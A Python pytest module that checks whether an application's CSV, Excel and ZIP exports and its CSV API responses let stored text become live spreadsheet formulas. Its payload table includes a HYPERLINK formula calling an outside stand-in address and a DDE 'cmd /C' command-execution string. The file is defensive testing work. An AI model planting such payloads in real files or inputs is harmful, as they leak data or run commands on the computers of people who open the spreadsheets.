"""What a spreadsheet would compute: in every text that can be written, in every file that is opened there."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from itertools import product

import openpyxl
import pytest

from institution.delimited import FORMULA_STARTS
from tests.api.test_resources import IN_PLAN
from tests.hostile.corpus import LONG, MARK
from tests.hostile.poison import poisoned
from tests.hostile.test_pages import addresses, client_of, whole
from tests.permissions.world import COORDINATOR, OWN_REPORTER, PLAN, World

FORMULAS = {
    "equals": f'=HYPERLINK("http://192.0.2.1/?{MARK}","{MARK}")',
    "plus": f"+1+cmd|' /C {MARK}'!A1",
    "minus": f"-1+{MARK}",
    "at": f"@SUM({MARK})",
    "tab": f"\t={MARK}",
    "return": f"\r={MARK}",
}
ASKED = FORMULAS if LONG else ("equals", "at")
# What makes a spreadsheet ask another program or address, wherever it stands in the parts of a workbook.
PARTS = ("externalLink", "connections", "queryTable", "vbaProject", "embeddings")


@pytest.fixture(params=ASKED)
def stored(request, world: World) -> World:
    formula = FORMULAS[request.param]
    took = poisoned(world, lambda longest: formula[:longest])
    assert len(took) > 50, sorted(took)
    return world


def tables(name: str, content: bytes) -> Iterator[tuple[str, bytes]]:
    """The workbooks and tables in what was answered, those inside of archives too."""
    if not name.endswith(".zip"):
        yield name, content
        return
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for inner in archive.namelist():
            yield from tables(f"{name}/{inner}", archive.read(inner))


def computed(name: str, content: bytes) -> Iterator[str]:
    """The cells that a spreadsheet would take for a formula, of those that hold what somebody wrote."""
    if name.endswith(".csv"):
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            yield from (cell for cell in row if MARK in cell and cell.startswith(FORMULA_STARTS))
    elif name.endswith(".xlsx"):
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            yield from (part for part in parts.namelist() if any(each in part for each in PARTS))
        for sheet in openpyxl.load_workbook(io.BytesIO(content)):
            for row in sheet.iter_rows():
                yield from (f"{sheet.title}!{cell.coordinate} {cell.value}" for cell in row if _computes(cell))


def _computes(cell) -> bool:
    return MARK in str(cell.value) and cell.data_type == "f"


def test_nothing_that_somebody_wrote_is_computed(stored, counted):
    clients = [client_of(stored, person) for person in (COORDINATOR, OWN_REPORTER)]
    opened, seen, wrong = set(), 0, []
    for (name, address), client in product(addresses(stored).items(), clients):
        answer = client.get(address)
        content = whole(answer)
        file = _file(answer)
        if answer.status_code != 200 or not file.endswith((".csv", ".xlsx", ".zip")):
            continue
        for inner, table in tables(file, content):
            seen += MARK in (table.decode("utf-8", "ignore") if inner.endswith(".csv") else _texts(table))
            wrong += [f"{name} {inner}: {cell[:120]}" for cell in computed(inner, table)]
        opened.add(name)
    counted(f"formulas: {len(opened)} exports opened, {seen} tables hold what was written, {len(wrong)} findings")
    assert not wrong, "\n".join(wrong)
    assert len(opened) >= 12
    assert seen > 20


def test_nothing_of_the_api_is_computed(stored):
    """Its tables are CSV too, for whoever opens them in a spreadsheet."""
    client, told = client_of(stored, COORDINATOR), 0
    for path in IN_PLAN:
        answer = client.get(f"/api/v1/plans/{PLAN}/{path}", headers={"accept": "text/csv"})
        if answer["Content-Type"].startswith("text/csv"):
            content = whole(answer)
            told += MARK in content.decode()
            assert list(computed("a.csv", content)) == [], path
    assert told >= 5


def _file(answer) -> str:
    kinds = {"text/csv": ".csv", "application/zip": ".zip"}
    kind = answer["Content-Type"].partition(";")[0]
    return f"answer{kinds.get(kind, '.xlsx' if kind.endswith('spreadsheetml.sheet') else '')}"


def _texts(content: bytes) -> str:
    if not content.startswith(b"PK"):
        return ""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return "".join(parts.read(part).decode("utf-8", "ignore") for part in parts.namelist() if part.endswith(".xml"))
